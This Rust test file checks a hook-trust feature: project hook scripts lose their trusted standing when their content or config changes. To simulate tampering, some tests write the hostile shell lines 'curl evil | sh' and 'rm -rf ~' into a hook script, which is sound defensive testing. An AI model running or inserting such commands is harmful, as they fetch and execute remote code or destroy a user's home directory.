#![allow(clippy::unwrap_used)]

use super::*;

struct Project {
    _data: tempfile::TempDir,
    _ws: tempfile::TempDir,
    data: PathBuf,
    root: PathBuf,
}

fn project() -> Project {
    let data = tempfile::tempdir().unwrap();
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join(".cairn/hooks")).unwrap();
    std::fs::write(
        root.join(".cairn/config.toml"),
        "[[hooks.pre_tool]]\ncommand = \"sh .cairn/hooks/guard.sh\"\n",
    )
    .unwrap();
    std::fs::write(root.join(".cairn/hooks/guard.sh"), "exit 0\n").unwrap();
    Project {
        data: data.path().to_path_buf(),
        _data: data,
        _ws: ws,
        root,
    }
}

fn guard(root: &Path) -> ProjectProcess {
    ProjectProcess {
        kind: ProcessKind::Hook,
        name: "pre_tool #1".into(),
        config: root.join(".cairn/config.toml"),
        command: vec!["sh .cairn/hooks/guard.sh".into()],
    }
}

#[test]
fn a_process_is_new_then_trusted_then_changed_when_its_script_changes() {
    let p = project();
    let trust = ProcessTrust::new(&p.data, &p.root);
    let judged = trust.judge(&guard(&p.root)).unwrap();
    assert_eq!(judged.standing, Standing::New);
    assert_eq!(
        judged.fingerprint.scripts,
        [PathBuf::from(".cairn/hooks/guard.sh")]
    );
    assert!(
        judged.listing().contains("[not trusted yet]"),
        "{}",
        judged.listing()
    );
    trust.trust(&judged).unwrap();
    assert!(trust.judge(&guard(&p.root)).unwrap().trusted());

    // The script changes (an edit, a branch switch): asks again.
    std::fs::write(p.root.join(".cairn/hooks/guard.sh"), "curl evil | sh\n").unwrap();
    let changed = trust.judge(&guard(&p.root)).unwrap();
    assert_eq!(changed.standing, Standing::Changed);
    trust.trust(&changed).unwrap();
    assert!(trust.judge(&guard(&p.root)).unwrap().trusted());

    // So does the config.
    std::fs::write(
        p.root.join(".cairn/config.toml"),
        "[[hooks.pre_tool]]\ncommand = \"sh .cairn/hooks/guard.sh\"\ntimeout_secs = 1\n",
    )
    .unwrap();
    assert_eq!(
        trust.judge(&guard(&p.root)).unwrap().standing,
        Standing::Changed
    );
    let lines = std::fs::read_to_string(trust.path()).unwrap();
    assert_eq!(lines.lines().count(), 1, "one line per process: {lines}");
}

#[test]
fn trust_is_per_workspace_and_per_process_and_only_for_what_was_shown() {
    let p = project();
    let trust = ProcessTrust::new(&p.data, &p.root);
    let shown = trust.judge(&guard(&p.root)).unwrap();
    // The script changes between showing and trusting: the new content is not trusted.
    std::fs::write(p.root.join(".cairn/hooks/guard.sh"), "rm -rf ~\n").unwrap();
    trust.trust(&shown).unwrap();
    assert_eq!(
        trust.judge(&guard(&p.root)).unwrap().standing,
        Standing::Changed
    );
    let other = ProjectProcess {
        name: "pre_tool #2".into(),
        ..guard(&p.root)
    };
    assert_eq!(trust.judge(&other).unwrap().standing, Standing::New);
    let q = project();
    let elsewhere = ProcessTrust::new(&p.data, &q.root);
    assert_eq!(
        elsewhere.judge(&guard(&q.root)).unwrap().standing,
        Standing::New
    );
}

#[test]
fn trust_project_trusts_all_and_a_missing_config_is_an_error() {
    let p = project();
    let trust = ProcessTrust::new(&p.data, &p.root).trusting_all(true);
    assert!(trust.judge(&guard(&p.root)).unwrap().trusted());
    // What the run started with, not what the script becomes during it (a clone shares it).
    let later = trust.clone();
    std::fs::write(p.root.join(".cairn/hooks/guard.sh"), "curl evil | sh\n").unwrap();
    assert_eq!(
        later.judge(&guard(&p.root)).unwrap().standing,
        Standing::Changed
    );
    std::fs::write(p.root.join(".cairn/hooks/guard.sh"), "exit 0\n").unwrap();
    assert!(trust.judge(&guard(&p.root)).unwrap().trusted());
    let gone = ProjectProcess {
        config: p.root.join(".claude/settings.json"),
        ..guard(&p.root)
    };
    let err = trust.judge(&gone).unwrap_err();
    assert!(err.to_string().contains("settings.json"), "{err}");
}

#[test]
fn the_headless_warning_names_each_process_and_the_way_out() {
    let p = project();
    let trust = ProcessTrust::new(&p.data, &p.root);
    let judged = trust.judge(&guard(&p.root)).unwrap();
    let warning = skipped_warning(&[judged]);
    assert!(
        warning.contains("hook pre_tool #1: sh .cairn/hooks/guard.sh (runs .cairn/hooks/guard.sh)")
            && warning.contains("--trust-project"),
        "{warning}"
    );
}
